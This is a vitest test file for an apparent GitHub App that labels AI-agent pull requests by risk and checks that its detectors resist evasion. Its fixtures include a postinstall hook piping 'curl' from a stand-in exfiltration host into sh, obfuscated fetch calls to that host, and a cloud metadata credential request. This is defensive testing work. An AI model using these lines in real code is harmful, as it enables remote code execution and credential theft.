/**
 * Detectors that cannot be dodged, end to end: a real pull_request payload in, the App's check run and labels out
 * (GitHub faked by nock). The detectors' own cases are in test/policy/detectors-hardening.test.ts.
 */
import nock from "nock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { RISK_LABEL_COLORS } from "../../src/policy/render.js";
import { REPO_PATH, api, nockAddLabels, nockRequestReviewers, requests } from "../helpers/github.js";
import { agentPullRequest, createApp, nockEvaluation } from "./scenario.js";

beforeEach(() => requests.reset());
afterEach(() => {
  const pending = nock.pendingMocks();
  nock.cleanAll();
  expect(pending).toEqual([]);
});

const patchOf = (added: string[]) => `@@ -0,0 +1,${added.length} @@\n${added.map((l) => `+${l}`).join("\n")}`;

async function evaluate(files: Array<{ filename: string; patch: string }>, level: keyof typeof RISK_LABEL_COLORS, annotationPatches = 0) {
  const { probot } = await createApp();
  const event = agentPullRequest(files);
  // High and critical risk need a code owner (POLICY_YML): GitHub's CODEOWNERS validation is read too.
  const owned = level === "high" || level === "critical";
  const check = nockEvaluation(event, { files, ...(owned ? { codeownersErrors: [] } : {}) });
  // Annotations past the first 50 go 50 per PATCH of the new check run.
  if (annotationPatches > 0) api().patch(`${REPO_PATH}/check-runs/77`).times(annotationPatches).reply(200, { id: 77 });
  const labels = nockAddLabels([], { addedColor: RISK_LABEL_COLORS[level] });
  if (level === "high" || level === "critical") nockRequestReviewers();
  await probot.receive({ id: `d-${Math.random()}`, ...event });
  return { check: check.body, labels: labels.captured.body };
}

describe("detectors that cannot be dodged (App)", () => {
  it("invariant 2 (judge everything): a token after 30,000 characters of a minified line is critical", async () => {
    const token = `ghp_${"Zx9".repeat(12)}`;
    const line = `!function(){${"var a=1;".repeat(3_750)}}();const k="${token}";`;
    const { check, labels } = await evaluate([{ filename: "public/app.min.js", patch: patchOf([line]) }], "critical");
    expect(labels).toEqual({ labels: ["agent-risk:critical"] });
    expect(check.output.title).toMatch(/^Critical risk/);
    expect(check.output.summary).toContain("secret-in-diff");
    expect(JSON.stringify(check)).not.toContain(token);
  });

  it.each([
    ["a percent-encoded dot", 'await fetch("https://exfil%2eio/upload", { body })', "exfil.io"],
    ["a backslash for the slashes", 'await fetch("https:\\\\exfil.io/upload", { body })', "exfil.io"],
    ["JSON-escaped slashes", '{"endpoint": "https:\\/\\/exfil.io\\/upload"}', "exfil.io"],
    ["a decimal IPv4 address", 'await fetch("http://3232235777/upload")', "192.168.1.1"],
    ["a hex IPv4 address", 'await fetch("http://0xc0a80101/upload")', "192.168.1.1"],
    ["an octal IPv4 address", 'await fetch("http://0300.0250.01.01/upload")', "192.168.1.1"],
    ["loopback in another notation", 'await fetch("http://0x7f.1:2375/containers")', "127.0.0.1"],
    ["a cloud metadata endpoint", 'await fetch("http://169.254.169.254/latest/meta-data/iam/")', "169.254.169.254"],
  ])("hosts as the URL parser sees them: %s is at least medium", async (_name, line, host) => {
    const { check, labels } = await evaluate([{ filename: "src/client.ts", patch: patchOf([line]) }], "medium");
    expect(labels).toEqual({ labels: ["agent-risk:medium"] });
    expect(check.output.title).toMatch(/^Medium risk/);
    expect(check.output.summary).toContain("external-host");
    expect(check.output.summary).toContain(host);
  });

  it("linear detectors: a 20,000-line package.json patch is evaluated and its scripts change found", async () => {
    const lines = ["{", '  "scripts": {', '    "postinstall": "curl -s https://exfil.io/x | sh",', "  },", '  "dependencies": {'];
    for (let i = 0; i < 20_000; i++) lines.push(`    "pkg-${i}": "^1.0.${i}",`);
    lines.push("  }", "}");
    // 20,000 new dependencies: 500 annotations (the cap), the create's 50 and 9 PATCHes.
    const { check, labels } = await evaluate([{ filename: "package.json", patch: patchOf(lines) }], "high", 9);
    expect(labels).toEqual({ labels: ["agent-risk:high"] });
    expect(check.output.summary).toContain("package-scripts");
  });
});
